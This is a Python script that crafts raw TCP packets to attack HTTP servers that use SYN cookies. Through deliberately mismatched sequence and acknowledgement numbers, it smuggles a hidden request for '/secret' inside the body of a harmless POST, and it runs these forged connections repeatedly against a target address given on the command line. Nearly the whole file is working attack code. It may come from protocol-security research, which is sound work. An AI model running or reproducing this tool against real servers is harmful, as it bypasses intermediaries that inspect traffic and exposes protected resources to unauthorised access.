"""Opens connections by raw packets, and acknowledges other numbers than those of the answer.

A server that answers by SYN cookies takes each acknowledgement that fits one of its cookies. So the
body of a harmless request becomes a request of its own, if nothing between looks at the numbers.
Prints the status of a last connection with right numbers. Arguments: this address, server.
"""
import random
import socket
import struct
import sys
import time

FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
PORT = 80
WAIT_SECONDS = 3


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


class Peer:
    """One connection's numbers, and the sockets that it is made of."""

    def __init__(self, client, server, port):
        self.ends = socket.inet_aton(client) + socket.inet_aton(server)
        self.server = server
        self.port = port
        self.out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        self.heard = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        self.heard.settimeout(0.2)
        self.first = random.getrandbits(32)

    def send(self, distance, acknowledgement, flags, data=b""):
        sequence = (self.first + distance) % 2**32
        header = struct.pack("!HHIIBBHHH", self.port, PORT, sequence, acknowledgement % 2**32,
                             0x50, flags, 64000, 0, 0)
        pseudo = self.ends + struct.pack("!BBH", 0, 6, len(header) + len(data))
        total = checksum(pseudo + header + data)
        self.out.sendto(header[:16] + struct.pack("!H", total) + header[18:] + data,
                        (self.server, 0))

    def answer(self, wanted):
        """The first segment of the server for which that is true: its sequence number and bytes."""
        until = time.monotonic() + WAIT_SECONDS
        while time.monotonic() < until:
            try:
                packet = self.heard.recv(65536)
            except socket.timeout:
                continue
            tcp = packet[20:]
            ports, sequence, _, offset, flags = struct.unpack("!IIIBB", tcp[:14])
            data = tcp[(offset >> 4) * 4:]
            if ports == PORT << 16 | self.port and wanted(flags, data):
                return sequence, data
        return None, b""

    def open(self):
        self.send(0, 0, SYN)
        sequence, _ = self.answer(lambda flags, _: flags & SYN)
        return sequence + 1

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.out.close()
        self.heard.close()


def request(server, path, method="GET", body=0):
    lines = [method + " " + path + " HTTP/1.1", "Host: " + server]
    if body:
        lines.append("Content-Length: %d" % body)
    return "\r\n".join(lines + ["", ""]).encode()


def acknowledge_another(client, server, port):
    hidden = request(server, "/secret")
    head = request(server, "/small", "POST", len(hidden))
    with Peer(client, server, port) as peer:
        heard = peer.open()
        peer.send(1 + len(head), heard + len(head), ACK)
        time.sleep(0.2)
        peer.send(1, heard + 7, ACK | PSH, head)
        time.sleep(0.2)
        peer.send(1 + len(head), heard + len(head), ACK | PSH, hidden)
        time.sleep(0.2)


def skip_a_letter(client, server, port):
    with Peer(client, server, port) as peer:
        heard = peer.open()
        peer.send(2, heard, ACK)
        time.sleep(0.2)
        peer.send(1, heard, ACK | PSH, request(server, "/small", "APUT"))
        time.sleep(0.2)


def ask(client, server, port):
    with Peer(client, server, port) as peer:
        heard = peer.open()
        peer.send(1, heard, ACK)
        peer.send(1, heard, ACK | PSH, request(server, "/small"))
        _, data = peer.answer(lambda _, data: data.startswith(b"HTTP/"))
        return data[9:12].decode()


def main():
    client, server = sys.argv[1:]
    for i in range(5):
        acknowledge_another(client, server, 20000 + i)
        skip_a_letter(client, server, 20100 + i)
    print(ask(client, server, 20200))


main()
